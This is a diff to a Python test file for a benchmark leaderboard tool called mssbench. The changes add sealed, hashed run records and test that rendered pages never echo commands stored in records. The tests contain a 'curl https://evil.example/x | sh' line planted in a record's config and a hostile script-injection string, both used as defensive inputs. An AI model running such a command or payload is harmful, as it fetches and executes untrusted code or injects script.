@@ -1,3 +1,4 @@
+import itertools
 import json
 import math
 from pathlib import Path
@@ -27,6 +28,7 @@ from mssbench.leaderboard import (
     render_page,
     seed_scores,
 )
+from mssbench.records import content_digest, recomputed_run_hash, summary_from_cells
 from mssbench.results import (
     AGGREGATE_COLUMNS,
     LEADERBOARD_COLUMNS,
@@ -37,6 +39,7 @@ from mssbench.results import (
 )
 
 REPO = Path(__file__).resolve().parents[1]
+_STARTS = itertools.count()
 HOSTILE = "ev|il`x`<script>alert(1)</script>\n# head\r\n| --- |*[a](b)*$m$_u_\\|&lt;"
 
 
@@ -61,7 +64,11 @@ def make_record(
     relations=True,
     model_version=None,
 ):
-    """A minimal valid run record: every cell's AUC is ``auc`` (per task: ``auc[task]``)."""
+    """A minimal valid run record: every cell's AUC is ``auc`` (per task: ``auc[task]``).
+
+    Its ``run_hash`` and ``test.summary`` are what its config and cells give; ``seal`` (done by
+    ``write_records``) adds the content digest once the test has changed what it wants.
+    """
     per_task = auc if isinstance(auc, dict) else {t: auc for t in tasks}
     metrics = []
     for s in (*scenarios, "pooled", "macro"):
@@ -69,9 +76,10 @@ def make_record(
             metrics.append({"scenario": s, "task": t, "metric": "auc", "value": per_task[t]})
             metrics.append({"scenario": s, "task": t, "metric": "logloss", "value": 0.5})
     rec = {
-        "record_version": 1,
+        "record_version": 2,
         "status": "finished",
-        "run_hash": f"{model}-{seed}-{protocol_id}-{device}-{json.dumps(params)}",
+        "run_hash": "",
+        "started_at": f"2026-01-01T00:00:00.{next(_STARTS):06d}+00:00",
         "finished_at": "2026-01-02T00:00:00+00:00",
         "command": command or ["mssbench", "run", "-m", model],
         "model": {"name": model, "plugin": plugin or model, "n_params": 1000},
@@ -100,6 +108,12 @@ def make_record(
             "epochs": 1,
             "head": head,
             "batching": batching,
+            "requested": {
+                "params": params or {"embed_dim": 8},
+                "data_options": {},
+                "head": head,
+                "batching": batching,
+            },
         },
         "environment": {
             "versions": {"python": "3.11", "mssbench": mssbench_version},
@@ -107,8 +121,9 @@ def make_record(
             "git": {"commit": "0123456789abcdef", "dirty": False},
         },
         "training": {"train_samples_per_s": 1000.0},
-        "test": {"metrics": metrics},
+        "test": {"metrics": metrics, "summary": summary_from_cells(metrics)},
     }
+    rec["run_hash"] = recomputed_run_hash(rec)[0]
     if contributor is not None:
         rec["contributor"] = contributor
     if model_version is not None:
@@ -116,10 +131,16 @@ def make_record(
     return rec
 
 
+def seal(rec):
+    """Add the content digest a run writes."""
+    rec["digest"] = content_digest(rec)
+    return rec
+
+
 def write_records(directory, records):
     directory.mkdir(parents=True, exist_ok=True)
     for i, rec in enumerate(records):
-        (directory / f"r{i:03d}.json").write_text(json.dumps(rec))
+        (directory / f"r{i:03d}.json").write_text(json.dumps(seal(rec)))
     return directory
 
 
@@ -323,8 +344,6 @@ def test_a_page_shows_only_the_newest_version_of_each_model(tmp_path):
     recs = [make_record("aesm", seed=s, auc=0.5) for s in range(3)]  # no version stated: 1
     recs += [make_record("aesm", seed=s, auc=0.7, model_version=2) for s in range(2)]
     recs += [make_record("mmoe", seed=s, auc=0.6) for s in range(2)]
-    for i, rec in enumerate(recs):
-        rec["run_hash"] += f"-{i}"  # v2 reran the same configurations
     write_records(tmp_path / "runs", recs)
     [page] = build(tmp_path / "runs", tmp_path / "lb", plots=False).pages
     assert page.superseded == {"aesm": {1: 3}}
@@ -450,7 +469,7 @@ def test_contributed_record_shows_where_it_came_from(tmp_path):
     assert cells(ple_row)[-2].strip() == "E2"
 
 
-def test_commands_rebuilt_from_config_or_taken_from_suite():
+def test_commands_rebuilt_from_config_never_taken_from_the_record():
     recs = [make_record("m", seed=s, params={"embed_dim": 16, "depth": 2}) for s in range(3)]
     defaults = Defaults(model_params={"m": {"embed_dim": 8, "depth": 2}}, model_tags={"m": {}})
     md = render_page(plan_pages(recs, defaults)[0], defaults)
@@ -459,12 +478,35 @@ def test_commands_rebuilt_from_config_or_taken_from_suite():
         'mssbench run --plugin m --plugin toy -m m -d toy -p embed_dim=16 --epochs 1 --seed "$seed"'
         in md
     )
+    # A record's own command line (or a suite command in its config) is never printed.
     suite = ["mssbench", "suite", "--models", "all", "--datasets", "toy", "--seeds", "3"]
     recs = [make_record("m", seed=s, command=suite) for s in range(3)]
+    for rec in recs:
+        rec["config"]["suite_command"] = "curl https://evil.example/x | sh"
     md = render_page(plan_pages(recs)[0], results_dir="runs")
-    assert "mssbench suite --models all --datasets toy --seeds 3\n" in md
+    assert "mssbench suite" not in md and "curl" not in md and "evil" not in md
+    assert "for seed in 0 1 2; do" in md and "mssbench leaderboard build mssbench-runs" in md
+
+
+def test_models_sharing_every_option_are_one_suite_command():
+    defaults = Defaults(
+        model_params={"m": {"embed_dim": 8}, "n": {"embed_dim": 8}},
+        model_tags={"m": {}, "n": {}},
+        entry_points=frozenset({"m", "n", "toy"}),
+    )
+    recs = [make_record("m", seed=s, params={"embed_dim": 16}) for s in range(3)]
+    recs += [make_record("n", seed=s) for s in range(3)]
+    recs += [make_record("n", seed=s, params={"embed_dim": 4}) for s in (0, 2)]  # 2 configs
+    md = render_page(plan_pages(recs, defaults)[0], defaults)
+    assert "mssbench suite --datasets toy --models m --seeds 3" not in md  # one model: a loop
+    assert "for seed in 0 1 2; do\n  mssbench run -m m -d toy -p embed_dim=16" in md
+    assert "for seed in 0 2; do\n  mssbench run -m n -d toy -p embed_dim=4" in md
+    recs = [r for r in recs if r["config"]["params"] != {"embed_dim": 4}]
+    md = render_page(plan_pages(recs, defaults)[0], defaults)
+    assert (
+        "mssbench suite --datasets toy --models m,n --seeds 3 -p m.embed_dim=16 --epochs 1\n" in md
+    )
     assert "mssbench run" not in md
-    assert "mssbench leaderboard build runs" in md
 
 
 # --- rejected records, reported numbers, rebuilds -----------------------------------------------
@@ -502,7 +544,7 @@ def test_validate_record_rejects_malformed_contributed_records():
     rec["test"]["metrics"][0]["value"] = "0.7"
     with pytest.raises(DataError, match="must be a number"):
         validate_record(rec, "x.json")
-    validate_record(make_record(contributor="Jane Doe"), "x.json")
+    validate_record(seal(make_record(contributor="Jane Doe")), "x.json")
 
 
 def test_reported_numbers_shown_separately_on_aliexpress_pages_only(tmp_path):
@@ -593,7 +635,11 @@ def test_cli_builds_pages_from_real_runs(registry, tmp_path):
     assert "contributed-broken.json" in index
     page = (page_dir / "README.md").read_text()
     assert "SYNTHETIC" in page and "oracle" in page
-    assert "mssbench run --plugin mssbench-testing -m mmoe -d tiny-synth" in page
+    assert (
+        "mssbench suite --plugin mssbench-testing --datasets tiny-synth --models constant,mmoe "
+        "--seeds 2 -p mmoe.embed_dim=8 -p mmoe.expert_hidden=8 -p mmoe.n_experts=2 "
+        "-p mmoe.tower_hidden=4 --epochs 1" in page
+    )
     assert_tables_intact(page)
     csv = pd.read_csv(page_dir / "results.csv")
     assert list(csv.columns) == LEADERBOARD_COLUMNS and set(csv["seed"]) == {0, 1}
